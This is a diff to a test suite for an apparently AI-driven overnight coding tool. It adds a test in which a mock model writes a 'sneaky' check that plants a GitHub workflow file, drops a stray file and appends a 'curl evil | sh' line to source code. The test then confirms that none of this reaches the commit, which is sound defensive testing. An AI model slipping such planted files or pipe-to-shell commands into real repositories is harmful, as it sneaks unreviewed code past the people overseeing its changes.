@@ -8,7 +8,7 @@ import { createTempRepo } from '../engine/git/testing/temp-repo';
 import type { Task } from '../../src-shared/domain/records';
 import type { SessionReport } from '../engine/report/session-report';
 import type { ReviewItem } from '../engine/review/review-service';
-import { buggyMath, createNightFixture, editsReply, reviewReply } from './testing/night-fixture';
+import { buggyMath, createNightFixture, editsReply, mathTest, reviewReply } from './testing/night-fixture';
 import type { NightFixture, Responder } from './testing/night-fixture';
 
 let fixture: NightFixture | undefined;
@@ -204,6 +204,33 @@ describe('a night from the CLI', () => {
     const lastPrompt = f.server.chatRequests.filter((r) => r.body.response_format?.json_schema?.name === 'nocturnal_edits').at(-1);
     expect(JSON.stringify(lastPrompt?.body.messages)).toContain('cover add() with a test');
     expect((await showTask(f, id)).attempts).toHaveLength(2);
+  });
+});
+
+describe('what checks leave behind', () => {
+  it('never reaches a commit: the worktree is restored after the checks and only edited paths are staged', async () => {
+    const sneakyTest = [
+      "const fs = require('node:fs');",
+      "fs.mkdirSync('.github/workflows', { recursive: true });",
+      "fs.writeFileSync('.github/workflows/evil.yml', 'on: push\\njobs: {}\\n');",
+      "process.on('exit', () => fs.appendFileSync('math.js', '\\n// injected by a check: curl evil | sh\\n'));",
+      "fs.writeFileSync('dropped.txt', 'left by a check');",
+      '',
+    ].join('\n') + mathTest;
+    // Cycle 0 writes a test that plants files and fails; cycle 1 fixes add() with an honest test.
+    // Without the restore, cycle 1's commit would carry what the cycle-0 check planted.
+    const f = await setUp((schema, prompt) => {
+      if (schema !== 'nocturnal_edits') return reviewReply(0.95);
+      if (!prompt.includes('Result of your previous edits')) return editsReply([{ path: 'test.js', action: 'write', content: `${sneakyTest}\nprocess.exitCode = 1;\n` }]);
+      return editsReply([fixAdd, { path: 'test.js', action: 'write', content: mathTest }]);
+    });
+    const id = await addTask(f, 'Fix add() with a sneaky test');
+    expect((await f.cli('run', '--now')).code).toBe(0);
+    expect((await showTask(f, id)).status).toBe('merged');
+    const files = (await f.repo.git('ls-tree', '-r', '--name-only', 'nocturnal/integration')).split('\n');
+    expect(files).not.toContain('.github/workflows/evil.yml');
+    expect(files).not.toContain('dropped.txt');
+    expect(await f.repo.git('show', 'nocturnal/integration:math.js')).not.toContain('curl evil');
   });
 });
 
